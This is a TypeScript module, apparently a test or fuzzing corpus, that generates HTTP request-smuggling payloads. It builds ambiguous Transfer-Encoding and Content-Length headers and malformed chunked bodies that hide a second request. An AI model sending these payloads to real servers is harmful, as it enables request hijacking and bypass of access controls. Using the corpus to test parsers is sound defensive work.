/** Requests that two readers could cut differently, with another request hidden in them that only one of them sees. */

/** Headers that some readers take for `Transfer-Encoding: chunked`, and others do not. */
const codings = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: chunked ",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: chunked\x0b",
  "Transfer-Encoding: chunked\x0c",
  "Transfer-Encoding: xchunked",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: chunked\r\nTransfer-encoding: cow",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  "Transfer-Encoding\n: chunked",
  "Transfer_Encoding: chunked",
  "transfer-ENCODING: CHUNKED",
  " Transfer-Encoding: chunked",
  "X-A: b\r\n Transfer-Encoding: chunked",
  "X-A: b\nTransfer-Encoding: chunked",
  "X-A: b\rTransfer-Encoding: chunked",
  "X-A: b\0Transfer-Encoding: chunked",
  "Foo\r\nTransfer-Encoding: chunked",
  "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
] as const;

/** Headers that some readers take for a length of `n`, and others for another one, or for none. */
const lengths = [
  (n: number) => `Content-Length: 0\r\nContent-Length: ${n}`,
  (n: number) => `Content-Length: ${n}\r\nContent-Length: 0`,
  (n: number) => `Content-Length: 0, ${n}`,
  (n: number) => `Content-Length: ${n}, 0`,
  (n: number) => `Content-Length : ${n}`,
  (n: number) => `Content-Length\t: ${n}`,
  (n: number) => ` Content-Length: ${n}`,
  (n: number) => `X-A: b\nContent-Length: ${n}`,
  (n: number) => `X-A: b\rContent-Length: ${n}`,
  (n: number) => `Content-Length: +${n}`,
  (n: number) => `Content-Length: 0x${n.toString(16)}`,
  (n: number) => `Content-Length: 0${n}`,
  (n: number) => `Content-Length: ${n}\x0b`,
  (n: number) => `Content-Length: ${n} 0`,
  (n: number) => `Content-Length: -${n}`,
  (n: number) => `Content-Length: ${18_446_744_073_709_551_616n + BigInt(n)}`,
  (n: number) => `Content_Length: ${n}`,
  (n: number) => `Connection: Content-Length\r\nContent-Length: ${n}`,
  (n: number) => `Expect: 100-continue\r\nContent-Length: ${n}`,
  (n: number) => `Expect: 100-Continue\r\nContent-Length: ${n}`,
  (n: number) => `Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: ${n}`,
  (n: number) =>
    `Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQA\r\nContent-Length: ${n}`,
] as const;

/** Chunked bodies whose end is not where all readers find it. */
const chunks = (hidden: string): string[] => {
  const size = hidden.length.toString(16);
  return [
    `0\n\n${hidden}`,
    `0\r\n\n${hidden}`,
    `0\n\r\n${hidden}`,
    `0;a=b\r\n\r\n${hidden}`,
    `0;a\nb\r\n\r\n${hidden}`,
    `0;"\r\n\r\n${hidden}`,
    `0 \r\n\r\n${hidden}`,
    `0x0\r\n\r\n${hidden}`,
    `-0\r\n\r\n${hidden}`,
    `00000000000000000\r\n\r\n${hidden}`,
    `10000000000000000\r\n\r\n${hidden}`,
    `1\r\na0\r\n\r\n${hidden}`,
    `1\r\naX\r\n0\r\n\r\n${hidden}`,
    `0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    `0\r\nTransfer-Encoding: chunked\r\n\r\n${hidden}`,
    `0\r\nX: y\n\n${hidden}`,
    `${size};\n${hidden}\r\n0\r\n\r\n`,
    `${size}\n${hidden}\n0\n\n`,
    `2\r\nab;${size}\r\n${hidden}\r\n0\r\n\r\n`,
  ];
};

/**
 * All of them, each as it goes over a connection of its own.
 *
 * @param line the request line of what everybody sees
 * @param hidden what only one of two readers sees
 */
export function smuggled(line: string, hidden: string): string[] {
  const request = (headers: string, body: string): string => `${line}\r\nHost: localhost\r\n${headers}\r\n\r\n${body}`;
  const size = `${hidden.length.toString(16)}\r\n`;
  /** What goes by the length sees all of it as one body, and what goes by the coding sees its end, and more behind it. */
  const byCoding = `0\r\n\r\n${hidden}`;
  /** The other way round: the length ends before what is hidden. */
  const byLength = `${size}${hidden}\r\n0\r\n\r\n`;
  return [
    ...codings.flatMap((coding) => [
      request(`${coding}\r\nContent-Length: ${byCoding.length}`, byCoding),
      request(`Content-Length: ${byCoding.length}\r\n${coding}`, byCoding),
      request(`${coding}\r\nContent-Length: ${size.length}`, byLength),
      request(`Content-Length: ${size.length}\r\n${coding}`, byLength),
      // Without a length, who does not know the coding sees no body.
      request(coding, byLength),
    ]),
    ...lengths.map((length) => request(length(hidden.length), hidden)),
    ...chunks(hidden).map((body) => request("Transfer-Encoding: chunked", body)),
    `${line.replace("1.1", "1.0")}\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${byLength}`,
    `${line.replace("1.1", "1.0")}\r\nConnection: keep-alive\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n${hidden}`,
  ];
}
